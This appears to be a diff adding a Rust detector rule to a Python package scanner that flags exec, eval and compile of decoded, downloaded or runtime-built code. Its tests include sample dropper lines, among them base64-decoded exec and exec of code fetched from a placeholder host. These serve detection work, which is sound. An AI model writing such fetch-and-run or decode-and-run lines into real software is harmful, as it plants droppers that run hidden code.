@@ -1,0 +1,170 @@
+//! WH110 dynamic-exec: exec/eval/compile of code that is not a plain literal.
+
+use ruff_python_ast::{Expr, ExprCall, Stmt};
+use ruff_text_size::Ranged;
+
+use crate::finding::{Category, ExecContext, Rule};
+use crate::fold::codec_of;
+use crate::walker::{Checker, SourceKind};
+
+/// The detector.
+pub const RULE: Rule = Rule {
+    id: "WH110",
+    name: "dynamic-exec",
+    description: "exec, eval or compile runs code built at run time, decoded, or downloaded",
+    rationale: "Executing a string hides the real program from readers and scanners. Decoded or \
+                downloaded code passed to exec is the signature of droppers; exec of a local version \
+                file is a harmless idiom and weighs little.",
+    category: Category::Sink,
+};
+
+/// Names whose call executes Python source or code objects.
+pub fn is_exec(qualname: &str) -> bool {
+    matches!(qualname, "exec" | "eval" | "execfile" | "compile" | "runpy.run_path" | "runpy.run_module")
+}
+
+/// True when the expression tree contains a decoding call (base64, zlib, marshal, codecs, ...).
+pub fn contains_decoding(checker: &Checker, expr: &Expr) -> Option<String> {
+    let mut stack = vec![expr];
+    let mut budget = 2_000usize;
+    while let Some(node) = stack.pop() {
+        budget = budget.checked_sub(1)?;
+        if let Expr::Call(call) = node {
+            if let Some(q) = checker.qualname(&call.func) {
+                if codec_of(&q).is_some()
+                    || matches!(q.as_str(), "marshal.loads" | "codecs.decode" | "pickle.loads")
+                    || q.ends_with(".decrypt")
+                {
+                    return Some(q);
+                }
+            }
+            stack.push(&call.func);
+            stack.extend(call.arguments.args.iter());
+        } else if let Expr::Attribute(a) = node {
+            stack.push(&a.value);
+        } else if let Expr::BinOp(b) = node {
+            stack.push(&b.left);
+            stack.push(&b.right);
+        } else if let Expr::Name(name) = node {
+            if let Some(source) = checker.scopes.taint_of(name.id.as_str()) {
+                if checker.sources.get(source).is_some_and(|s| s.kind == SourceKind::Decoded) {
+                    return Some(checker.sources[source].label.clone());
+                }
+            }
+        }
+    }
+    None
+}
+
+fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
+    let Expr::Call(call) = expr else { return false };
+    let Some(q) = checker.qualname(&call.func) else { return false };
+    q.ends_with(".read") || q.ends_with(".read_text") || q == "open().read" || q.starts_with("open()")
+}
+
+/// exec/eval/compile calls.
+pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    if !is_exec(qualname) {
+        return;
+    }
+    let Some(code) = call.arguments.args.first() else {
+        return;
+    };
+    check_executed(checker, call.range(), code, qualname);
+}
+
+fn check_executed(checker: &mut Checker, range: ruff_text_size::TextRange, code: &Expr, qualname: &str) {
+    let context = checker.context();
+    let weak_context = matches!(context, ExecContext::Runtime | ExecContext::TestOrDocs);
+    let plain_literal = matches!(code, Expr::StringLiteral(_) | Expr::BytesLiteral(_));
+    let folded = checker.fold(code).and_then(|v| v.as_text());
+    if let Some(decoder) = contains_decoding(checker, code) {
+        if let Some(text) = &folded {
+            checker.push_layer(text.clone(), range, format!("decoded by {decoder} and passed to {qualname}"));
+        }
+        let severity = if context == ExecContext::TestOrDocs { 0.5 } else { 0.9 };
+        checker.report(&RULE, range, format!("{qualname} runs code decoded by {decoder}"), severity, vec!["exec-decoded"]);
+        return;
+    }
+    if let Some(text) = folded {
+        if qualname == "compile" || qualname == "eval" && text.len() < 40 && !text.contains('(') {
+            return;
+        }
+        let severity = if plain_literal { 0.05 } else if weak_context { 0.15 } else { 0.4 };
+        let how = if plain_literal { "a string literal" } else { "a string assembled from constants" };
+        checker.push_layer(text, range, format!("{how} passed to {qualname}"));
+        checker.report(&RULE, range, format!("{qualname} runs {how}"), severity, vec!["exec-constant"]);
+        return;
+    }
+    if let Some(source) = checker.source_in(code) {
+        if checker.sources[source].kind == SourceKind::Network {
+            let label = checker.sources[source].label.clone();
+            checker.report(&RULE, range, format!("{qualname} runs code received from the network ({label})"), 0.95, vec!["exec-remote"]);
+            return;
+        }
+    }
+    if qualname == "compile" {
+        return;
+    }
+    if is_file_read(checker, code) {
+        checker.report(&RULE, range, format!("{qualname} runs the contents of a file"), 0.05, vec!["exec-file"]);
+        return;
+    }
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import => 0.25,
+        ExecContext::Runtime => 0.04,
+        ExecContext::TestOrDocs => 0.02,
+    };
+    checker.report(&RULE, range, format!("{qualname} runs code computed at run time"), severity, vec!["exec-dynamic"]);
+}
+
+/// Python 2's `exec "code"` statement recovers as a bare `exec` name followed by an expression
+/// statement; treat the pair as an exec call so Python 2 droppers are not invisible.
+pub fn check_py2_exec_statements(checker: &mut Checker, body: &[Stmt]) {
+    for pair in body.windows(2) {
+        let (Stmt::Expr(first), Stmt::Expr(second)) = (&pair[0], &pair[1]) else {
+            continue;
+        };
+        if matches!(&*first.value, Expr::Name(name) if name.id.as_str() == "exec") {
+            check_executed(checker, first.range(), &second.value, "exec");
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::testing::max_severity;
+
+    #[test]
+    fn decoded_exec_is_severe() {
+        let code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
+        let code = "import zlib, base64 as b\nx = b.b64decode(data)\neval(zlib.decompress(x))\n";
+        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
+        let code = "__import__('builtins').exec(__import__('base64').b64decode(p))\n";
+        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
+    fn remote_exec_is_severe() {
+        let code = "import requests\nexec(requests.get('http://x.invalid/p').text)\n";
+        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
+        let code = "from urllib.request import urlopen\nr = urlopen(u)\ncode = r.read()\nexec(code)\n";
+        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
+    fn python2_exec_statement_is_seen() {
+        let code = "import base64\nexec base64.b64decode('cHJpbnQoMSk=')\n";
+        assert!(max_severity("p/setup.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
+    fn version_file_idiom_is_benign() {
+        let code = "exec(open('pkg/version.py').read())\n";
+        assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
+        let code = "def f(expr):\n    return eval(expr, {})\n";
+        assert!(max_severity("p/pkg/mod.py", code, "WH110") <= 0.05);
+        assert_eq!(max_severity("p/pkg/mod.py", "x = compile(src, 'f', 'exec')\n", "WH110"), 0.0);
+    }
+}
